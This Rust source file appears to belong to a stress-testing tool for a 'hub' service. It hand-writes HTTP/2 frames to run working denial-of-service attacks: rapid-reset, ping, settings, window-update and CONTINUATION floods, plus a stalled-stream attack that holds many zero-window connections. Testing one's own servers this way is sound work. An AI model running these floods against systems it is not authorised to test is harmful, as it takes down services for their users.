//! HTTP/2 clients (RFC 9113) that write frames by hand, because a library prevents protocol
//! violations.

use super::attack::{Attack, Bounds, MEGABYTE, Over, Transport};
use super::flood::{flood, send};
use super::progress::{Pace, Progress};
use super::target::Target;
use crate::Result;
use crate::link::Link;
use std::io::Write;
use std::net::Ipv4Addr;
use std::thread;
use std::time::Duration;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// The number of clients that flood the hub.
const CLIENTS: usize = 4;
/// Bytes per second of all clients together.
const RATE: f64 = 40.0 * MEGABYTE as f64;
const RETRY_DELAY: Duration = Duration::from_millis(100);
/// The number of connections with stalled streams, and the streams on each.
const STALLED: usize = 40;
const STREAMS: u32 = 128;

const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GO_AWAY: u8 = 7;
const WINDOW: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const ACK: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

/// The header block of a GET (RFC 7541): two entries of the static table and two literals.
fn get(target: &Target, path: &str) -> Vec<u8> {
    let authority = target.address.to_string();
    let mut block = vec![0x82, 0x87];
    for (index, text) in [(4, path), (1, authority.as_str())] {
        block.extend([index, text.len() as u8]);
        block.extend_from_slice(text.as_bytes());
    }
    block
}

pub fn attacks() -> Vec<Attack> {
    let floods: [(&str, Piece); 6] = [
        ("rapid resets", |target, stream| {
            let block = get(target, "/health");
            let open = frame(HEADERS, END_HEADERS | END_STREAM, stream, &block);
            [open, frame(RESET, 0, stream, &8_u32.to_be_bytes())].concat()
        }),
        ("pings", |_, _| frame(PING, 0, 0, &[0; 8])),
        ("settings", |_, _| {
            frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 9])
        }),
        ("empty settings", |_, _| frame(SETTINGS, 0, 0, &[])),
        ("window updates of one byte", |_, _| {
            frame(WINDOW, 0, 0, &1_u32.to_be_bytes())
        }),
        ("endless headers", |target, stream| match stream {
            1 => frame(HEADERS, END_STREAM, 1, &get(target, "/health")),
            // Repeats the same header field.
            _ => frame(CONTINUATION, 0, 1, &[0, 1, b'a', 1, b'b']),
        }),
    ];
    let flooding = floods.into_iter().map(|(name, piece)| {
        Attack::new(
            "http2",
            format!("HTTP/2: {name}"),
            move |target, progress| {
                thread::scope(|scope| {
                    for _ in 0..CLIENTS {
                        let from = target.new_address();
                        scope.spawn(move || repeat(target, from, piece, progress));
                    }
                });
                Ok(())
            },
        )
        .over(Over::Tls)
        .short(
            (!matches!(name, "empty settings" | "window updates of one byte"))
                .then_some(Transport::Tls),
        )
    });
    let name = format!("HTTP/2: {STALLED} connections, {STREAMS} stalled streams each");
    let stalled = Attack::new("http2", name, stall)
        .over(Over::Tls)
        // The full form lasts longer than the hub's timeout for a stalled stream.
        .seconds(2.0, 36.0)
        .bounds(Bounds {
            growth: 96 * MEGABYTE,
            ..Bounds::default()
        })
        .ends();
    flooding.chain([stalled]).collect()
}

/// Returns the frames to send next; a new stream gets this number.
type Piece = fn(&Target, u32) -> Vec<u8>;

fn open(target: &Target, from: Ipv4Addr, settings: &[u8]) -> Result<Link> {
    let mut link = target.encrypted(from, target.tls_h2.as_ref())?;
    link.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, settings)].concat())?;
    link.flush()?;
    Ok(link)
}

fn repeat(target: &Target, from: Ipv4Addr, piece: Piece, progress: &Progress) {
    while progress.is_running() {
        if let Err(error) = once(target, from, piece, progress) {
            progress.ended(error);
        }
        progress.sleep(RETRY_DELAY);
    }
}

fn once(target: &Target, from: Ipv4Addr, piece: Piece, progress: &Progress) -> Result<()> {
    let mut link = open(target, from, &[])?;
    progress.connected();
    let (mut stream, mut frames) = (1, Frames::default());
    let mut pace = Pace::new(RATE / CLIENTS as f64);
    let next = || {
        let mut many = Vec::new();
        while many.len() < 8 * 1024 {
            many.extend(piece(target, stream));
            stream += 2;
        }
        many
    };
    if let Some(how) = flood(&mut link, progress, &mut pace, next, |bytes| {
        frames.take(bytes)
    }) {
        progress.ended(frames.ending(how));
    }
    Ok(())
}

/// Requests the hub's largest file on many streams with a window of 0, and answers pings.
fn stall(target: &Target, progress: &Progress) -> Result<()> {
    let path = largest_file(target)?;
    let opening = || -> Result<Link> {
        // SETTINGS_INITIAL_WINDOW_SIZE of 0.
        let mut link = open(target, target.new_address(), &[0, 4, 0, 0, 0, 0])?;
        progress.connected();
        let block = get(target, &path);
        let streams = (0..STREAMS)
            .map(|number| frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, &block));
        let streams: Vec<_> = streams.flatten().collect();
        // Opens all connections within about a second.
        let mut pace = Pace::new(STALLED as f64 * streams.len() as f64 / 4.0);
        match send(&mut link, progress, &mut pace, &streams, |_| {}) {
            None => Ok(link),
            Some(how) => Err(how.into()),
        }
    };
    thread::scope(|scope| {
        for _ in 0..4 {
            scope.spawn(|| {
                let mut held = Vec::new();
                for _ in 0..STALLED / 4 {
                    match opening() {
                        Ok(link) => held.push((link, Frames::default())),
                        Err(error) => progress.ended(error),
                    }
                }
                while progress.is_running() {
                    held.retain_mut(|(link, frames)| acknowledge(link, frames, progress));
                    progress.sleep(Duration::from_millis(100));
                }
            });
        }
    });
    Ok(())
}

/// Acknowledges pings and settings. Returns whether the connection is still open.
fn acknowledge(link: &mut Link, frames: &mut Frames, progress: &Progress) -> bool {
    let taken = link.pump(&[], |bytes| frames.take(bytes));
    let answers = std::mem::take(&mut frames.answers);
    let answered = taken.and_then(|open| match open {
        Some(_) => link.push(&answers).map(Some),
        None => Ok(None),
    });
    let how = match answered {
        Ok(Some(_)) if frames.resets >= STREAMS as usize => "its streams were reset".to_owned(),
        Ok(Some(_)) => return true,
        Ok(None) => frames.ending("closed".to_owned()),
        Err(error) => frames.ending(super::flood::describe_error(&error)),
    };
    progress.ended(how);
    false
}

/// The path of the largest script on the hub's first page.
fn largest_file(target: &Target) -> Result<String> {
    let (_, page) = target.call(target.new_address(), "GET /", "", "")?;
    let links = page
        .split('"')
        .filter(|word| word.starts_with('/') && word.ends_with(".js"));
    let mut largest = (0, None);
    for path in links {
        let (status, body) = target.call(target.new_address(), &format!("GET {path}"), "", "")?;
        if status == 200 && body.len() > largest.0 {
            largest = (body.len(), Some(path.to_owned()));
        }
    }
    Ok(largest.1.ok_or("the hub's page has no script")?)
}

/// Parses the hub's frames incrementally.
#[derive(Default)]
struct Frames {
    bytes: Vec<u8>,
    /// Acknowledgements that are still to be sent.
    answers: Vec<u8>,
    resets: usize,
    teardown: Option<String>,
}

impl Frames {
    fn take(&mut self, bytes: &[u8]) {
        self.bytes.extend_from_slice(bytes);
        let mut at = 0;
        while let Some(head) = self.bytes.get(at..at + 9) {
            let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
            let (kind, flags) = (head[3], head[4]);
            let Some(payload) = self.bytes.get(at + 9..at + 9 + length) else {
                break;
            };
            match kind {
                PING if flags & ACK == 0 => self.answers.extend(frame(PING, ACK, 0, payload)),
                SETTINGS if flags & ACK == 0 => self.answers.extend(frame(SETTINGS, ACK, 0, &[])),
                RESET => self.resets += 1,
                GO_AWAY if length >= 8 => {
                    let code = payload[7];
                    let words = String::from_utf8_lossy(&payload[8..]);
                    self.teardown = Some(format!("GOAWAY {code} {words}"));
                }
                _ => {}
            }
            at += 9 + length;
        }
        self.bytes.drain(..at);
    }

    fn ending(&self, otherwise: String) -> String {
        self.teardown.clone().unwrap_or(otherwise)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pings_and_settings_are_acknowledged_and_a_goaway_is_kept() {
        let ping = frame(PING, 0, 0, b"12345678");
        let teardown = [0, 0, 0, 1, 0, 0, 0, 11].as_slice();
        let teardown = frame(GO_AWAY, 0, 0, &[teardown, b"too much"].concat());
        let bytes = [ping, frame(SETTINGS, 0, 0, &[]), teardown].concat();
        for size in [1, 5, bytes.len()] {
            let mut frames = Frames::default();
            bytes.chunks(size).for_each(|piece| frames.take(piece));
            let ping = frame(PING, ACK, 0, b"12345678");
            assert_eq!(
                frames.answers,
                [ping, frame(SETTINGS, ACK, 0, &[])].concat()
            );
            assert_eq!(frames.ending("closed".to_owned()), "GOAWAY 11 too much");
        }
    }
}
